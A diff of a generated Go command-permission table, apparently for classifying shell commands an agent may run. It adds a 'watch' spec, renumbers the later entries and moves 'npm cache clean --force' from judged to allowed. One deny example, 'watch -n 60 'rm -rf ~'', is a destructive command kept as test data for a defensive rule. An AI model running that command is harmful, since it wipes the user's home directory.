@@ -84,410 +84,412 @@ func generatedProgram(name string) *Spec {
 		return program37()
 	case "export", "declare", "typeset", "local", "readonly", "set", "unset", "shopt", "alias", "unalias", "read", "mapfile", "readarray", "shift", "return", "exit", "break", "continue", "let", "getopts", "complete", "compgen", "bind", "enable", "disown", "bg", "fg", "kill-0", "builtin-true", "ulimit-n":
 		return program38()
-	case "trap":
+	case "watch":
 		return program39()
-	case "command":
+	case "trap":
 		return program40()
-	case "python", "python3", "python2", "python3.8", "python3.9", "python3.10", "python3.11", "python3.12", "python3.13", "pypy", "pypy3":
+	case "command":
 		return program41()
-	case "node", "nodejs":
+	case "python", "python3", "python2", "python3.8", "python3.9", "python3.10", "python3.11", "python3.12", "python3.13", "pypy", "pypy3":
 		return program42()
-	case "deno":
+	case "node", "nodejs":
 		return program43()
-	case "ruby":
+	case "deno":
 		return program44()
-	case "perl":
+	case "ruby":
 		return program45()
-	case "php":
+	case "perl":
 		return program46()
-	case "lua", "luajit", "Rscript", "julia", "osascript", "pwsh", "powershell", "tclsh", "wish", "gawk-exec", "irb", "bash-exec", "jshell", "scala", "groovy", "kotlin", "kotlinc", "elixir", "erl", "escript", "swift", "racket", "guile", "sbcl", "ghci", "runghc", "ocaml", "nim", "crystal", "zx", "tsx", "ts-node", "bun-run", "expect":
+	case "php":
 		return program47()
-	case "manage.py":
+	case "lua", "luajit", "Rscript", "julia", "osascript", "pwsh", "powershell", "tclsh", "wish", "gawk-exec", "irb", "bash-exec", "jshell", "scala", "groovy", "kotlin", "kotlinc", "elixir", "erl", "escript", "swift", "racket", "guile", "sbcl", "ghci", "runghc", "ocaml", "nim", "crystal", "zx", "tsx", "ts-node", "bun-run", "expect":
 		return program48()
-	case "git":
+	case "manage.py":
 		return program49()
-	case "git-lfs":
+	case "git":
 		return program50()
-	case "gh":
+	case "git-lfs":
 		return program51()
-	case "glab":
+	case "gh":
 		return program52()
-	case "hub":
+	case "glab":
 		return program53()
-	case "tig":
+	case "hub":
 		return program54()
-	case "lazygit":
+	case "tig":
 		return program55()
-	case "pre-commit":
+	case "lazygit":
 		return program56()
-	case "husky":
+	case "pre-commit":
 		return program57()
-	case "go":
+	case "husky":
 		return program58()
-	case "gofmt":
+	case "go":
 		return program59()
-	case "goimports", "gofumpt":
+	case "gofmt":
 		return program60()
-	case "golangci-lint":
+	case "goimports", "gofumpt":
 		return program61()
-	case "staticcheck":
+	case "golangci-lint":
 		return program62()
-	case "govulncheck":
+	case "staticcheck":
 		return program63()
-	case "gopls":
+	case "govulncheck":
 		return program64()
-	case "dlv":
+	case "gopls":
 		return program65()
-	case "cargo":
+	case "dlv":
 		return program66()
-	case "rustc":
+	case "cargo":
 		return program67()
-	case "rustfmt":
+	case "rustc":
 		return program68()
-	case "rustup":
+	case "rustfmt":
 		return program69()
-	case "tsc":
+	case "rustup":
 		return program70()
-	case "eslint":
+	case "tsc":
 		return program71()
-	case "prettier":
+	case "eslint":
 		return program72()
-	case "biome":
+	case "prettier":
 		return program73()
-	case "vite":
+	case "biome":
 		return program74()
-	case "webpack", "webpack-cli":
+	case "vite":
 		return program75()
-	case "esbuild":
+	case "webpack", "webpack-cli":
 		return program76()
-	case "rollup":
+	case "esbuild":
 		return program77()
-	case "next":
+	case "rollup":
 		return program78()
-	case "jest":
+	case "next":
 		return program79()
-	case "vitest":
+	case "jest":
 		return program80()
-	case "mocha":
+	case "vitest":
 		return program81()
-	case "playwright":
+	case "mocha":
 		return program82()
-	case "cypress":
+	case "playwright":
 		return program83()
-	case "turbo":
+	case "cypress":
 		return program84()
-	case "nx":
+	case "turbo":
 		return program85()
-	case "npm":
+	case "nx":
 		return program86()
-	case "npx":
+	case "npm":
 		return program87()
-	case "pnpx":
+	case "npx":
 		return program88()
-	case "pnpm":
+	case "pnpx":
 		return program89()
-	case "yarn":
+	case "pnpm":
 		return program90()
-	case "bun":
+	case "yarn":
 		return program91()
-	case "bunx":
+	case "bun":
 		return program92()
-	case "pytest", "py.test":
+	case "bunx":
 		return program93()
-	case "ruff":
+	case "pytest", "py.test":
 		return program94()
-	case "black":
+	case "ruff":
 		return program95()
-	case "isort":
+	case "black":
 		return program96()
-	case "mypy", "dmypy":
+	case "isort":
 		return program97()
-	case "pyright", "basedpyright":
+	case "mypy", "dmypy":
 		return program98()
-	case "flake8":
+	case "pyright", "basedpyright":
 		return program99()
-	case "pylint":
+	case "flake8":
 		return program100()
-	case "coverage":
+	case "pylint":
 		return program101()
-	case "tox":
+	case "coverage":
 		return program102()
-	case "nox":
+	case "tox":
 		return program103()
-	case "pip", "pip3", "pip3.9", "pip3.10", "pip3.11", "pip3.12", "pip3.13":
+	case "nox":
 		return program104()
-	case "uv":
+	case "pip", "pip3", "pip3.9", "pip3.10", "pip3.11", "pip3.12", "pip3.13":
 		return program105()
-	case "uvx":
+	case "uv":
 		return program106()
-	case "pipx":
+	case "uvx":
 		return program107()
-	case "poetry":
+	case "pipx":
 		return program108()
-	case "twine":
+	case "poetry":
 		return program109()
-	case "pipenv":
+	case "twine":
 		return program110()
-	case "pdm":
+	case "pipenv":
 		return program111()
-	case "hatch":
+	case "pdm":
 		return program112()
-	case "conda", "mamba", "micromamba":
+	case "hatch":
 		return program113()
-	case "jupyter":
+	case "conda", "mamba", "micromamba":
 		return program114()
-	case "make", "gmake":
+	case "jupyter":
 		return program115()
-	case "just":
+	case "make", "gmake":
 		return program116()
-	case "task", "go-task":
+	case "just":
 		return program117()
-	case "cmake":
+	case "task", "go-task":
 		return program118()
-	case "ctest":
+	case "cmake":
 		return program119()
-	case "ninja", "samu":
+	case "ctest":
 		return program120()
-	case "meson":
+	case "ninja", "samu":
 		return program121()
-	case "bazel", "bazelisk":
+	case "meson":
 		return program122()
-	case "gradle", "gradlew":
+	case "bazel", "bazelisk":
 		return program123()
-	case "mvn", "mvnw", "mvnd":
+	case "gradle", "gradlew":
 		return program124()
-	case "java":
+	case "mvn", "mvnw", "mvnd":
 		return program125()
-	case "javac":
+	case "java":
 		return program126()
-	case "dotnet":
+	case "javac":
 		return program127()
-	case "xcodebuild":
+	case "dotnet":
 		return program128()
-	case "rspec":
+	case "xcodebuild":
 		return program129()
-	case "rubocop", "standardrb":
+	case "rspec":
 		return program130()
-	case "rake":
+	case "rubocop", "standardrb":
 		return program131()
-	case "rails":
+	case "rake":
 		return program132()
-	case "bundle", "bundler":
+	case "rails":
 		return program133()
-	case "gem":
+	case "bundle", "bundler":
 		return program134()
-	case "phpunit", "pest", "paratest":
+	case "gem":
 		return program135()
-	case "composer":
+	case "phpunit", "pest", "paratest":
 		return program136()
-	case "mix":
+	case "composer":
 		return program137()
-	case "gcc", "g++", "cc", "c++", "clang", "clang++", "gcc-12", "gcc-13", "gcc-14", "g++-12", "g++-13", "g++-14", "clang-17", "clang-18", "clang-19", "tcc", "icx", "emcc":
+	case "mix":
 		return program138()
-	case "ld", "ld.lld", "ld.gold", "ld.bfd", "lld", "mold":
+	case "gcc", "g++", "cc", "c++", "clang", "clang++", "gcc-12", "gcc-13", "gcc-14", "g++-12", "g++-13", "g++-14", "clang-17", "clang-18", "clang-19", "tcc", "icx", "emcc":
 		return program139()
-	case "ar", "llvm-ar", "ranlib", "llvm-ranlib":
+	case "ld", "ld.lld", "ld.gold", "ld.bfd", "lld", "mold":
 		return program140()
-	case "nm", "llvm-nm", "objdump", "llvm-objdump", "readelf", "llvm-readelf", "size", "c++filt", "llvm-cxxfilt", "addr2line", "llvm-symbolizer", "otool", "dwarfdump", "llvm-dwarfdump", "ldd", "lipo-info", "pkg-config", "pkgconf", "llvm-config", "ccache-stats":
+	case "ar", "llvm-ar", "ranlib", "llvm-ranlib":
 		return program141()
-	case "clang-format", "clang-tidy", "cppcheck", "cpplint", "include-what-you-use", "iwyu":
+	case "nm", "llvm-nm", "objdump", "llvm-objdump", "readelf", "llvm-readelf", "size", "c++filt", "llvm-cxxfilt", "addr2line", "llvm-symbolizer", "otool", "dwarfdump", "llvm-dwarfdump", "ldd", "lipo-info", "pkg-config", "pkgconf", "llvm-config", "ccache-stats":
 		return program142()
-	case "buf":
+	case "clang-format", "clang-tidy", "cppcheck", "cpplint", "include-what-you-use", "iwyu":
 		return program143()
-	case "protoc":
+	case "buf":
 		return program144()
-	case "sqlc":
+	case "protoc":
 		return program145()
-	case "docker", "podman", "nerdctl":
+	case "sqlc":
 		return program146()
-	case "docker-compose", "podman-compose":
+	case "docker", "podman", "nerdctl":
 		return program147()
-	case "kubectl", "k", "oc":
+	case "docker-compose", "podman-compose":
 		return program148()
-	case "helm":
+	case "kubectl", "k", "oc":
 		return program149()
-	case "kustomize":
+	case "helm":
 		return program150()
-	case "kubeconform", "kubeval", "kube-score", "kube-linter", "pluto", "polaris", "conftest", "datree":
+	case "kustomize":
 		return program151()
-	case "kind":
+	case "kubeconform", "kubeval", "kube-score", "kube-linter", "pluto", "polaris", "conftest", "datree":
 		return program152()
-	case "minikube":
+	case "kind":
 		return program153()
-	case "k3d":
+	case "minikube":
 		return program154()
-	case "stern", "kubetail":
+	case "k3d":
 		return program155()
-	case "k9s":
+	case "stern", "kubetail":
 		return program156()
-	case "kubectx", "kubens":
+	case "k9s":
 		return program157()
-	case "terraform", "tofu", "opentofu":
+	case "kubectx", "kubens":
 		return program158()
-	case "terragrunt":
+	case "terraform", "tofu", "opentofu":
 		return program159()
-	case "tflint", "tfsec", "trivy-config", "checkov", "terrascan", "infracost", "terraform-docs", "tfupdate":
+	case "terragrunt":
 		return program160()
-	case "pulumi":
+	case "tflint", "tfsec", "trivy-config", "checkov", "terrascan", "infracost", "terraform-docs", "tfupdate":
 		return program161()
-	case "packer":
+	case "pulumi":
 		return program162()
-	case "ansible-playbook", "ansible":
+	case "packer":
 		return program163()
-	case "ansible-lint", "ansible-inventory", "ansible-doc", "ansible-config":
+	case "ansible-playbook", "ansible":
 		return program164()
-	case "ansible-galaxy":
+	case "ansible-lint", "ansible-inventory", "ansible-doc", "ansible-config":
 		return program165()
-	case "aws":
+	case "ansible-galaxy":
 		return program166()
-	case "gcloud":
+	case "aws":
 		return program167()
-	case "gsutil":
+	case "gcloud":
 		return program168()
-	case "az":
+	case "gsutil":
 		return program169()
-	case "doctl":
+	case "az":
 		return program170()
-	case "fly", "flyctl":
+	case "doctl":
 		return program171()
-	case "heroku":
+	case "fly", "flyctl":
 		return program172()
-	case "vercel", "vc":
+	case "heroku":
 		return program173()
-	case "netlify", "ntl":
+	case "vercel", "vc":
 		return program174()
-	case "firebase":
+	case "netlify", "ntl":
 		return program175()
-	case "wrangler":
+	case "firebase":
 		return program176()
-	case "supabase":
+	case "wrangler":
 		return program177()
-	case "stripe":
+	case "supabase":
 		return program178()
-	case "hookguard":
+	case "stripe":
 		return program179()
-	case "psql":
+	case "hookguard":
 		return program180()
-	case "mysql", "mariadb":
+	case "psql":
 		return program181()
-	case "sqlite3", "sqlite", "duckdb":
+	case "mysql", "mariadb":
 		return program182()
-	case "redis-cli", "valkey-cli", "keydb-cli":
+	case "sqlite3", "sqlite", "duckdb":
 		return program183()
-	case "mongosh", "mongo":
+	case "redis-cli", "valkey-cli", "keydb-cli":
 		return program184()
-	case "clickhouse-client", "clickhouse":
+	case "mongosh", "mongo":
 		return program185()
-	case "pg_dump", "pg_dumpall", "mysqldump", "mongodump", "mongoexport":
+	case "clickhouse-client", "clickhouse":
 		return program186()
-	case "curl":
+	case "pg_dump", "pg_dumpall", "mysqldump", "mongodump", "mongoexport":
 		return program187()
-	case "wget":
+	case "curl":
 		return program188()
-	case "http", "https", "xh", "xhs", "httpie":
+	case "wget":
 		return program189()
-	case "ssh", "mosh", "autossh":
+	case "http", "https", "xh", "xhs", "httpie":
 		return program190()
-	case "ssh-agent":
+	case "ssh", "mosh", "autossh":
 		return program191()
-	case "scp", "sftp":
+	case "ssh-agent":
 		return program192()
-	case "nc", "ncat", "netcat", "socat", "telnet":
+	case "scp", "sftp":
 		return program193()
-	case "dig", "nslookup", "host", "ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "whois", "drill", "delv":
+	case "nc", "ncat", "netcat", "socat", "telnet":
 		return program194()
-	case "netstat", "ss", "arp", "iftop", "nethogs", "speedtest", "speedtest-cli":
+	case "dig", "nslookup", "host", "ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "whois", "drill", "delv":
 		return program195()
-	case "openssl":
+	case "netstat", "ss", "arp", "iftop", "nethogs", "speedtest", "speedtest-cli":
 		return program196()
-	case "ssh-keygen":
+	case "openssl":
 		return program197()
-	case "ssh-add":
+	case "ssh-keygen":
 		return program198()
-	case "gpg", "gpg2":
+	case "ssh-add":
 		return program199()
-	case "systemctl":
+	case "gpg", "gpg2":
 		return program200()
-	case "service", "rc-service", "sv":
+	case "systemctl":
 		return program201()
-	case "launchctl":
+	case "service", "rc-service", "sv":
 		return program202()
-	case "journalctl":
+	case "launchctl":
 		return program203()
-	case "dmesg":
+	case "journalctl":
 		return program204()
-	case "brew":
+	case "dmesg":
 		return program205()
-	case "apt", "apt-get", "aptitude":
+	case "brew":
 		return program206()
-	case "apt-cache", "dpkg-query", "apt-file":
+	case "apt", "apt-get", "aptitude":
 		return program207()
-	case "dpkg":
+	case "apt-cache", "dpkg-query", "apt-file":
 		return program208()
-	case "dnf", "yum", "microdnf", "zypper":
+	case "dpkg":
 		return program209()
-	case "apk":
+	case "dnf", "yum", "microdnf", "zypper":
 		return program210()
-	case "pacman", "yay", "paru":
+	case "apk":
 		return program211()
-	case "snap", "flatpak", "port", "choco", "winget", "scoop", "nix-env":
+	case "pacman", "yay", "paru":
 		return program212()
-	case "crontab":
+	case "snap", "flatpak", "port", "choco", "winget", "scoop", "nix-env":
 		return program213()
-	case "at", "batch":
+	case "crontab":
 		return program214()
-	case "atq", "atrm":
+	case "at", "batch":
 		return program215()
-	case "kill":
+	case "atq", "atrm":
 		return program216()
-	case "pkill", "killall":
+	case "kill":
 		return program217()
-	case "open", "xdg-open", "gio-open", "start", "wslview":
+	case "pkill", "killall":
 		return program218()
-	case "code", "cursor", "code-insiders", "codium", "windsurf", "subl", "zed", "idea", "charm", "webstorm", "goland", "pycharm":
+	case "open", "xdg-open", "gio-open", "start", "wslview":
 		return program219()
-	case "vim", "vi", "nvim", "view", "vimdiff", "gvim", "mvim", "ex":
+	case "code", "cursor", "code-insiders", "codium", "windsurf", "subl", "zed", "idea", "charm", "webstorm", "goland", "pycharm":
 		return program220()
-	case "nano", "pico", "micro", "emacs", "emacsclient", "helix", "hx", "kak", "joe", "ne", "mg":
+	case "vim", "vi", "nvim", "view", "vimdiff", "gvim", "mvim", "ex":
 		return program221()
-	case "tmux":
+	case "nano", "pico", "micro", "emacs", "emacsclient", "helix", "hx", "kak", "joe", "ne", "mg":
 		return program222()
-	case "screen":
+	case "tmux":
 		return program223()
-	case "gdb", "cgdb", "gdb-multiarch":
+	case "screen":
 		return program224()
-	case "lldb":
+	case "gdb", "cgdb", "gdb-multiarch":
 		return program225()
-	case "strace", "ltrace", "dtruss":
+	case "lldb":
 		return program226()
-	case "entr", "watchexec", "reflex":
+	case "strace", "ltrace", "dtruss":
 		return program227()
-	case "hyperfine":
+	case "entr", "watchexec", "reflex":
 		return program228()
-	case "direnv":
+	case "hyperfine":
 		return program229()
-	case "asdf", "mise", "rtx", "nvm", "fnm", "pyenv", "rbenv", "nodenv", "goenv", "jenv", "sdk", "volta", "n", "proto":
+	case "direnv":
 		return program230()
-	case "shellcheck", "hadolint", "yamllint", "dotenv-linter", "checkmake", "editorconfig-checker", "ec", "alex", "write-good", "vale", "proselint", "cspell", "misspell", "commitlint", "ls-lint":
+	case "asdf", "mise", "rtx", "nvm", "fnm", "pyenv", "rbenv", "nodenv", "goenv", "jenv", "sdk", "volta", "n", "proto":
 		return program231()
-	case "actionlint":
+	case "shellcheck", "hadolint", "yamllint", "dotenv-linter", "checkmake", "editorconfig-checker", "ec", "alex", "write-good", "vale", "proselint", "cspell", "misspell", "commitlint", "ls-lint":
 		return program232()
-	case "markdownlint", "markdownlint-cli2", "mdl":
+	case "actionlint":
 		return program233()
-	case "codespell":
+	case "markdownlint", "markdownlint-cli2", "mdl":
 		return program234()
-	case "shfmt":
+	case "codespell":
 		return program235()
-	case "ctags", "uctags", "etags", "gtags", "global":
+	case "shfmt":
 		return program236()
-	case "pbcopy", "pbpaste", "xclip", "xsel", "wl-copy", "wl-paste", "clip", "clip.exe", "termux-clipboard-get", "termux-clipboard-set":
+	case "ctags", "uctags", "etags", "gtags", "global":
 		return program237()
-	case "notify-send", "say", "terminal-notifier", "espeak", "spd-say":
+	case "pbcopy", "pbpaste", "xclip", "xsel", "wl-copy", "wl-paste", "clip", "clip.exe", "termux-clipboard-get", "termux-clipboard-set":
 		return program238()
-	case "base64", "base32", "basenc", "uuencode", "uudecode":
+	case "notify-send", "say", "terminal-notifier", "espeak", "spd-say":
 		return program239()
-	case "envsubst":
+	case "base64", "base32", "basenc", "uuencode", "uudecode":
 		return program240()
+	case "envsubst":
+		return program241()
 	}
 	return nil
 }
@@ -736,6 +738,7 @@ func generatedPrograms() []*Spec {
 		program238(),
 		program239(),
 		program240(),
+		program241(),
 	}
 }
 
@@ -3089,10 +3092,71 @@ func program38() *Spec {
 	}
 }
 
-// trap: runs a command when the shell gets a signal or exits; the command is split and analyzed like sh -c
+// watch: runs a command every few seconds; the command is split and analyzed like sh -c
 //
 //go:noinline
 func program39() *Spec {
+	return &Spec{
+		Names: []string{
+			"watch",
+		},
+		Summary:     "runs a command every few seconds; the command is split and analyzed like sh -c",
+		Operands:    "command",
+		StopAtFirst: true,
+		Options: []Option{
+			{
+				Names: []string{
+					"-n",
+					"--interval",
+					"-q",
+					"--equexit",
+				},
+				Value: "any",
+			},
+			{
+				Names: []string{
+					"-d",
+					"--differences",
+					"-t",
+					"--no-title",
+					"-x",
+					"--exec",
+					"-e",
+					"--errexit",
+					"-g",
+					"--chgexit",
+					"-b",
+					"--beep",
+					"-c",
+					"--color",
+					"-C",
+					"--no-color",
+					"-p",
+					"--precise",
+					"-w",
+					"--no-wrap",
+					"-r",
+					"--no-rerun",
+				},
+			},
+		},
+		Examples: Examples{
+			Allow: []string{
+				"watch -n 2 'kubectl get pods -n dev -o wide'",
+				"watch -n 5 git status",
+				"watch -d -n1 'ls -la dist'",
+			},
+			Deny: []string{
+				"watch -n 60 'rm -rf ~'",
+			},
+		},
+	}
+}
+
+// trap: runs a command when the shell gets a signal or exits; the command is split and analyzed like sh -c
+//
+//go:noinline
+func program40() *Spec {
 	return &Spec{
 		Names: []string{
 			"trap",
@@ -3118,7 +3182,7 @@ func program39() *Spec {
 // command: runs or looks up a command (command -v prints where it is)
 //
 //go:noinline
-func program40() *Spec {
+func program41() *Spec {
 	return &Spec{
 		Names: []string{
 			"command",
@@ -3137,7 +3201,7 @@ func program40() *Spec {
 // python: the Python interpreter
 //
 //go:noinline
-func program41() *Spec {
+func program42() *Spec {
 	return &Spec{
 		Names: []string{
 			"python",
@@ -3226,7 +3290,7 @@ func program41() *Spec {
 // node: the Node.js runtime
 //
 //go:noinline
-func program42() *Spec {
+func program43() *Spec {
 	return &Spec{
 		Names: []string{
 			"node",
@@ -3297,7 +3361,7 @@ func program42() *Spec {
 // deno: the Deno runtime
 //
 //go:noinline
-func program43() *Spec {
+func program44() *Spec {
 	return &Spec{
 		Names: []string{
 			"deno",
@@ -3365,7 +3429,7 @@ func program43() *Spec {
 // ruby: the Ruby interpreter
 //
 //go:noinline
-func program44() *Spec {
+func program45() *Spec {
 	return &Spec{
 		Names: []string{
 			"ruby",
@@ -3421,7 +3485,7 @@ func program44() *Spec {
 // perl: the Perl interpreter
 //
 //go:noinline
-func program45() *Spec {
+func program46() *Spec {
 	return &Spec{
 		Names: []string{
 			"perl",
@@ -3502,7 +3566,7 @@ func program45() *Spec {
 // php: the PHP interpreter
 //
 //go:noinline
-func program46() *Spec {
+func program47() *Spec {
 	return &Spec{
 		Names: []string{
 			"php",
@@ -3554,7 +3618,7 @@ func program46() *Spec {
 // lua: interpreters whose inline code is not analyzed
 //
 //go:noinline
-func program47() *Spec {
+func program48() *Spec {
 	return &Spec{
 		Names: []string{
 			"lua",
@@ -3608,7 +3672,7 @@ func program47() *Spec {
 // manage.py: a Django project's own task runner (python manage.py COMMAND)
 //
 //go:noinline
-func program48() *Spec {
+func program49() *Spec {
 	return &Spec{
 		Names: []string{
 			"manage.py",
@@ -3735,7 +3799,7 @@ func program48() *Spec {
 // git: the git version-control tool
 //
 //go:noinline
-func program49() *Spec {
+func program50() *Spec {
 	return &Spec{
 		Names: []string{
 			"git",
@@ -7135,7 +7199,7 @@ func program49() *Spec {
 // git-lfs: Git Large File Storage
 //
 //go:noinline
-func program50() *Spec {
+func program51() *Spec {
 	return &Spec{
 		Names: []string{
 			"git-lfs",
@@ -7281,7 +7345,7 @@ func program50() *Spec {
 // gh: the GitHub CLI
 //
 //go:noinline
-func program51() *Spec {
+func program52() *Spec {
 	return &Spec{
 		Names: []string{
 			"gh",
@@ -8628,7 +8692,7 @@ func program51() *Spec {
 // glab: the GitLab CLI
 //
 //go:noinline
-func program52() *Spec {
+func program53() *Spec {
 	return &Spec{
 		Names: []string{
 			"glab",
@@ -9060,7 +9124,7 @@ func program52() *Spec {
 // hub: the hub GitHub wrapper around git
 //
 //go:noinline
-func program53() *Spec {
+func program54() *Spec {
 	return &Spec{
 		Names: []string{
 			"hub",
@@ -9758,7 +9822,7 @@ func program53() *Spec {
 // tig: a text-mode interface for browsing git history (read-only)
 //
 //go:noinline
-func program54() *Spec {
+func program55() *Spec {
 	return &Spec{
 		Names: []string{
 			"tig",
@@ -9780,7 +9844,7 @@ func program54() *Spec {
 // lazygit: an interactive terminal UI for git (the user drives it)
 //
 //go:noinline
-func program55() *Spec {
+func program56() *Spec {
 	return &Spec{
 		Names: []string{
 			"lazygit",
@@ -9800,7 +9864,7 @@ func program55() *Spec {
 // pre-commit: runs the repository's configured pre-commit hooks (plain form is `pre-commit run`)
 //
 //go:noinline
-func program56() *Spec {
+func program57() *Spec {
 	return &Spec{
 		Names: []string{
 			"pre-commit",
@@ -9996,7 +10060,7 @@ func program56() *Spec {
 // husky: sets up the workspace's git hooks (plain form points core.hooksPath at the hook folder)
 //
 //go:noinline
-func program57() *Spec {
+func program58() *Spec {
 	return &Spec{
 		Names: []string{
 			"husky",
@@ -10044,7 +10108,7 @@ func program57() *Spec {
 // go: the Go toolchain
 //
 //go:noinline
-func program58() *Spec {
+func program59() *Spec {
 	return &Spec{
 		Names: []string{
 			"go",
@@ -11258,7 +11322,7 @@ func program58() *Spec {
 // gofmt: formats Go source (-w rewrites the files)
 //
 //go:noinline
-func program59() *Spec {
+func program60() *Spec {
 	return &Spec{
 		Names: []string{
 			"gofmt",
@@ -11310,7 +11374,7 @@ func program59() *Spec {
 // goimports: formats Go source and fixes imports (-w rewrites the files)
 //
 //go:noinline
-func program60() *Spec {
+func program61() *Spec {
 	return &Spec{
 		Names: []string{
 			"goimports",
@@ -11364,7 +11428,7 @@ func program60() *Spec {
 // golangci-lint: runs Go linters over the workspace
 //
 //go:noinline
-func program61() *Spec {
+func program62() *Spec {
 	return &Spec{
 		Names: []string{
 			"golangci-lint",
@@ -11624,7 +11688,7 @@ func program61() *Spec {
 // staticcheck: runs Go static analysis over the workspace
 //
 //go:noinline
-func program62() *Spec {
+func program63() *Spec {
 	return &Spec{
 		Names: []string{
 			"staticcheck",
@@ -11676,7 +11740,7 @@ func program62() *Spec {
 // govulncheck: reports known vulnerabilities in the workspace's dependencies
 //
 //go:noinline
-func program63() *Spec {
+func program64() *Spec {
 	return &Spec{
 		Names: []string{
 			"govulncheck",
@@ -11729,7 +11793,7 @@ func program63() *Spec {
 // gopls: the Go language server and its command-line queries
 //
 //go:noinline
-func program64() *Spec {
+func program65() *Spec {
 	return &Spec{
 		Names: []string{
 			"gopls",
@@ -11837,7 +11901,7 @@ func program64() *Spec {
 // dlv: the Go debugger
 //
 //go:noinline
-func program65() *Spec {
+func program66() *Spec {
 	return &Spec{
 		Names: []string{
 			"dlv",
@@ -11914,7 +11978,7 @@ func program65() *Spec {
 // cargo: the Rust package manager and build tool
 //
 //go:noinline
-func program66() *Spec {
+func program67() *Spec {
 	return &Spec{
 		Names: []string{
 			"cargo",
@@ -12995,7 +13059,7 @@ func program66() *Spec {
 // rustc: the Rust compiler (-o names the output)
 //
 //go:noinline
-func program67() *Spec {
+func program68() *Spec {
 	return &Spec{
 		Names: []string{
 			"rustc",
@@ -13081,7 +13145,7 @@ func program67() *Spec {
 // rustfmt: formats Rust files in place (--check only reports)
 //
 //go:noinline
-func program68() *Spec {
+func program69() *Spec {
 	return &Spec{
 		Names: []string{
 			"rustfmt",
@@ -13143,7 +13207,7 @@ func program68() *Spec {
 // rustup: the Rust toolchain installer (installing and changing toolchains changes the user's setup)
 //
 //go:noinline
-func program69() *Spec {
+func program70() *Spec {
 	return &Spec{
 		Names: []string{
 			"rustup",
@@ -13327,7 +13391,7 @@ func program69() *Spec {
 // tsc: the TypeScript compiler (type-checks and emits the workspace's code)
 //
 //go:noinline
-func program70() *Spec {
+func program71() *Spec {
 	return &Spec{
 		Names: []string{
 			"tsc",
@@ -13354,7 +13418,7 @@ func program70() *Spec {
 // eslint: lints JavaScript and TypeScript (--fix rewrites files; its configuration is code of the workspace)
 //
 //go:noinline
-func program71() *Spec {
+func program72() *Spec {
 	return &Spec{
 		Names: []string{
 			"eslint",
@@ -13381,7 +13445,7 @@ func program71() *Spec {
 // prettier: formats files (--write rewrites them, --check only reports)
 //
 //go:noinline
-func program72() *Spec {
+func program73() *Spec {
 	return &Spec{
 		Names: []string{
 			"prettier",
@@ -13407,7 +13471,7 @@ func program72() *Spec {
 // biome: formats and lints JavaScript, TypeScript, JSON and CSS (--write rewrites files)
 //
 //go:noinline
-func program73() *Spec {
+func program74() *Spec {
 	return &Spec{
 		Names: []string{
 			"biome",
@@ -13471,7 +13535,7 @@ func program73() *Spec {
 // vite: the Vite dev server and bundler (vite.config runs as code of the workspace)
 //
 //go:noinline
-func program74() *Spec {
+func program75() *Spec {
 	return &Spec{
 		Names: []string{
 			"vite",
@@ -13509,7 +13573,7 @@ func program74() *Spec {
 // webpack: the webpack bundler (webpack.config runs as code of the workspace)
 //
 //go:noinline
-func program75() *Spec {
+func program76() *Spec {
 	return &Spec{
 		Names: []string{
 			"webpack",
@@ -13585,7 +13649,7 @@ func program75() *Spec {
 // esbuild: the esbuild bundler (writes --outfile or --outdir)
 //
 //go:noinline
-func program76() *Spec {
+func program77() *Spec {
 	return &Spec{
 		Names: []string{
 			"esbuild",
@@ -13686,7 +13750,7 @@ func program76() *Spec {
 // rollup: the Rollup bundler (rollup.config runs as code of the workspace)
 //
 //go:noinline
-func program77() *Spec {
+func program78() *Spec {
 	return &Spec{
 		Names: []string{
 			"rollup",
@@ -13707,7 +13771,7 @@ func program77() *Spec {
 // next: the Next.js framework's dev server and build (next.config runs as code of the workspace)
 //
 //go:noinline
-func program78() *Spec {
+func program79() *Spec {
 	return &Spec{
 		Names: []string{
 			"next",
@@ -13753,7 +13817,7 @@ func program78() *Spec {
 // jest: runs the workspace's JavaScript tests
 //
 //go:noinline
-func program79() *Spec {
+func program80() *Spec {
 	return &Spec{
 		Names: []string{
 			"jest",
@@ -13775,7 +13839,7 @@ func program79() *Spec {
 // vitest: runs the workspace's tests with Vitest
 //
 //go:noinline
-func program80() *Spec {
+func program81() *Spec {
 	return &Spec{
 		Names: []string{
 			"vitest",
@@ -13823,7 +13887,7 @@ func program80() *Spec {
 // mocha: runs the workspace's JavaScript tests with Mocha
 //
 //go:noinline
-func program81() *Spec {
+func program82() *Spec {
 	return &Spec{
 		Names: []string{
 			"mocha",
@@ -13844,7 +13908,7 @@ func program81() *Spec {
 // playwright: the Playwright end-to-end test runner
 //
 //go:noinline
-func program82() *Spec {
+func program83() *Spec {
 	return &Spec{
 		Names: []string{
 			"playwright",
@@ -13931,7 +13995,7 @@ func program82() *Spec {
 // cypress: the Cypress end-to-end test runner
 //
 //go:noinline
-func program83() *Spec {
+func program84() *Spec {
 	return &Spec{
 		Names: []string{
 			"cypress",
@@ -13985,7 +14049,7 @@ func program83() *Spec {
 // turbo: the Turborepo task runner (runs the workspace's package scripts)
 //
 //go:noinline
-func program84() *Spec {
+func program85() *Spec {
 	return &Spec{
 		Names: []string{
 			"turbo",
@@ -14179,7 +14243,7 @@ func program84() *Spec {
 // nx: the Nx monorepo task runner (runs the workspace's project targets)
 //
 //go:noinline
-func program85() *Spec {
+func program86() *Spec {
 	return &Spec{
 		Names: []string{
 			"nx",
@@ -14338,7 +14402,7 @@ func program85() *Spec {
 // npm: the Node.js package manager
 //
 //go:noinline
-func program86() *Spec {
+func program87() *Spec {
 	return &Spec{
 		Names: []string{
 			"npm",
@@ -16316,14 +16380,11 @@ func program86() *Spec {
 						},
 						Operands:  "any",
 						AnyOption: true,
-						Mutates:   "system",
 					},
 				},
 				Examples: Examples{
 					Allow: []string{
 						"npm cache verify",
-					},
-					Judge: []string{
 						"npm cache clean --force",
 					},
 				},
@@ -16382,7 +16443,7 @@ func program86() *Spec {
 // npx: runs a package's command, fetching the package by name when it is not installed (a known workspace tool is allowed)
 //
 //go:noinline
-func program87() *Spec {
+func program88() *Spec {
 	return &Spec{
 		Names: []string{
 			"npx",
@@ -17287,7 +17348,7 @@ func program87() *Spec {
 // pnpx: runs a package fetched by name (pnpm dlx)
 //
 //go:noinline
-func program88() *Spec {
+func program89() *Spec {
 	return &Spec{
 		Names: []string{
 			"pnpx",
@@ -17307,7 +17368,7 @@ func program88() *Spec {
 // pnpm: the pnpm package manager (pnpm NAME runs a script or an installed command of the workspace)
 //
 //go:noinline
-func program89() *Spec {
